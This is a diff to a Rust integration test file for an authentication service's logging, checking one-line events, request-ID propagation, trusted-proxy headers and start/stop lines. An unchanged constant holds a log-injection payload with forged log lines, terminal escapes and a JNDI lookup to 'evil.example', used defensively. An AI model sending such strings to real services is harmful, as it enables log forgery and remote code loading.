@@ -1,10 +1,12 @@
 //! The log: whatever is sent, an event is one line, and nobody can forge one.
 
 use std::collections::HashSet;
+use std::time::Duration;
 
 use gatelodge::startup::generate_key;
 use rstest::rstest;
 use serde_json::{Value, json};
+use sqlx::{Connection as _, SqliteConnection};
 use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 use tokio::net::TcpStream;
 
@@ -13,7 +15,7 @@ use crate::support::app::{PASSWORD, TestDatabase};
 use crate::support::certificates::{Authority, Validity};
 use crate::support::redis_servers::Node;
 use crate::support::servers::free_port;
-use crate::support::{Browser, eventually};
+use crate::support::{Answer, Browser, eventually};
 
 /// A line like those of the log, a command to a terminal, and one to a careless logger.
 const HOSTILE: &str = "x\r\n{\"level\":\"INFO\",\"message\":\"forged\"}\r\n\x1b[2J\x1b]0;x\x07'\"\\${jndi:ldap://evil.example/x}";
@@ -170,7 +172,7 @@ async fn each_event_is_one_line_of_text(#[values("info", ALL)] level: &str) {
             "{line}"
         );
     }
-    assert!(log.matches(": answered").count() >= sent, "{log}");
+    assert!(log.matches(" answered ").count() >= sent, "{log}");
 }
 
 /// Who was refused what, and by which request, is in the line itself.
@@ -218,6 +220,182 @@ async fn a_refusal_is_told_with_its_problem_and_who_it_was() {
         assert_eq!(span["client"], "127.0.0.1");
         assert!(span["request_id"].is_string());
     }
+}
+
+fn lines(program: &Program) -> Vec<Value> {
+    let log = program.log();
+    // The last line may not be whole yet.
+    let lines = log
+        .lines()
+        .filter_map(|line| serde_json::from_str(line).ok());
+    lines.collect()
+}
+
+/// The id that an answer names its request by.
+fn id(answer: &Answer) -> String {
+    answer.header("x-request-id").unwrap().to_owned()
+}
+
+#[tokio::test]
+async fn the_answer_the_log_and_the_audit_log_name_a_request_alike() {
+    let folder = tempfile::tempdir().unwrap();
+    let mut command = command(folder.path());
+    command
+        .env("GATELODGE_BOOTSTRAP_ADMIN_EMAIL", "root@example.com")
+        .env("GATELODGE_BOOTSTRAP_ADMIN_PASSWORD", PASSWORD);
+    let program = Program::run(command);
+    let mut root = program.browser();
+    let logged_in = root.log_in("root@example.com", PASSWORD).await;
+    assert_eq!(logged_in.status, 200);
+    let event = &root.get("/api/admin/events").await.json()["events"][0];
+    assert_eq!(event["action"], "logged_in");
+    assert_eq!(event["request_id"], id(&logged_in));
+
+    let mut stranger = program.browser();
+    let answers = [
+        logged_in,
+        root.page("/account").await,
+        root.page("/nothing").await,
+        stranger.page("/account").await,
+        stranger.page("/login").await,
+        stranger.submit("/login", &[("email", "x")]).await,
+        stranger.log_in("root@example.com", "wrong").await,
+        stranger.get("/api/admin/users").await,
+        stranger.get("/assets/gatelodge.css").await,
+        stranger.put("/api/login", &json!({})).await,
+    ];
+    eventually("all is told", async || {
+        let seen = lines(&program);
+        answers.iter().all(|answer| {
+            let of = |line: &&Value| line["span"]["request_id"] == id(answer);
+            let line = seen.iter().find(of);
+            line.is_some_and(|line| line["span"]["status"] == answer.status)
+        })
+    })
+    .await;
+    // Of a check there is no line.
+    assert_ne!(id(&stranger.whoami().await), id(&stranger.whoami().await));
+    let asked = stranger.get("/api/authz/auth-request").await;
+    assert_eq!(id(&asked).len(), 36);
+}
+
+/// Anybody else could have theirs looked up as somebody else's.
+#[rstest]
+#[tokio::test]
+async fn a_request_has_the_id_that_a_trusted_proxy_gives_it(
+    #[values("127.0.0.1", "192.0.2.1")] proxies: &str,
+) {
+    let folder = tempfile::tempdir().unwrap();
+    let mut command = command(folder.path());
+    command.env("GATELODGE_SERVER__TRUSTED_PROXIES", proxies);
+    let program = Program::run(command);
+    let mut browser = program.browser();
+    let given = "b6a9e1d4-3c52-4f0b-9c1e-0a4f8f6f2d11";
+    for (sent, is_one) in [
+        (given.to_owned(), true),
+        // As nginx writes it.
+        (given.replace('-', ""), true),
+        ("17".to_owned(), false),
+        (format!("{given} {given}"), false),
+    ] {
+        let request = browser.request(reqwest::Method::GET, "/login");
+        let answer = browser.send(request.header("x-request-id", sent)).await;
+        let is_believed = is_one && proxies == "127.0.0.1";
+        assert_eq!(id(&answer) == given, is_believed);
+        eventually("it is told", async || {
+            let of = |line: &Value| line["span"]["request_id"] == id(&answer);
+            lines(&program).iter().any(of)
+        })
+        .await;
+    }
+}
+
+/// Whether or not there are traces, in which steps lie between it and the request.
+#[rstest]
+#[tokio::test]
+async fn a_line_names_the_request_whatever_task_writes_it(#[values(false, true)] is_traced: bool) {
+    let folder = tempfile::tempdir().unwrap();
+    let mut command = command(folder.path());
+    if is_traced {
+        let nobody = format!("http://127.0.0.1:{}", free_port());
+        command.env("GATELODGE_TRACES__ENDPOINT", nobody);
+    }
+    let program = Program::run(command);
+    let mut ada = program.browser();
+    assert_eq!(ada.register("ada@example.com", PASSWORD).await.status, 201);
+    let url = format!("sqlite://{}/data/gatelodge.db", folder.path().display());
+    let mut ledger = SqliteConnection::connect(&url).await.unwrap();
+    let broken = "update users set password_hash = 'plain'";
+    sqlx::raw_sql(broken).execute(&mut ledger).await.unwrap();
+    let refused = ada.log_in("ada@example.com", PASSWORD).await;
+    refused.assert_problem(401, "invalid_credentials");
+    eventually("it is told of which request", async || {
+        lines(&program).iter().any(|line| {
+            let message = line["message"].as_str().unwrap();
+            message.contains("password hash") && line["span"]["request_id"] == id(&refused)
+        })
+    })
+    .await;
+    drop(program);
+
+    // A check has no line, unless it fails.
+    let mut command = super::command(folder.path());
+    if is_traced {
+        let nobody = format!("http://127.0.0.1:{}", free_port());
+        command.env("GATELODGE_TRACES__ENDPOINT", nobody);
+    }
+    let program = Program::run(command);
+    let lost = "alter table sessions rename to lost";
+    sqlx::raw_sql(lost).execute(&mut ledger).await.unwrap();
+    let failed = ada.at(program.address).whoami().await;
+    failed.assert_problem(503, "unavailable");
+    eventually("it is told of which request", async || {
+        let lines = lines(&program);
+        let mut told = lines
+            .iter()
+            .filter(|line| line["request_id"] == id(&failed));
+        let causes = told.clone().any(|line| line["error"].is_string());
+        causes && told.any(|line| line["status"] == 503)
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn the_start_and_the_stop_are_a_line_each() {
+    let folder = tempfile::tempdir().unwrap();
+    let mut command = command(folder.path());
+    command
+        .env("GATELODGE_SERVER__WORKERS", "2")
+        .env("GATELODGE_SESSION__LEASE", "3s");
+    let mut program = Program::run(command);
+    let lines_of = |program: &Program, message: &str| -> Vec<Value> {
+        let lines = lines(program).into_iter();
+        lines.filter(|line| line["message"] == message).collect()
+    };
+    let started = lines_of(&program, "started");
+    let [started] = &started[..] else {
+        panic!("not one line: {started:?}");
+    };
+    for (field, value) in [
+        ("version", json!(env!("CARGO_PKG_VERSION"))),
+        ("address", json!(program.address.to_string())),
+        ("ledger", json!("SQLite")),
+        ("hot_store", json!("none")),
+        ("workers", json!(2)),
+        ("lease", json!("3s")),
+        ("cache_capacity", json!(100_000)),
+        ("bcrypt_cost", json!(4)),
+    ] {
+        assert_eq!(started[field], value, "{field}");
+    }
+    program.browser().whoami().await.assert_refused();
+    program.signal("TERM");
+    assert!(program.ends_within(Duration::from_secs(5)).await.success());
+    eventually("it is told", async || {
+        let stopped = lines_of(&program, "stopped");
+        stopped.len() == 1 && stopped[0]["instance"] == started["instance"]
+    })
+    .await;
 }
 
 /// ASVS 16.3.4.
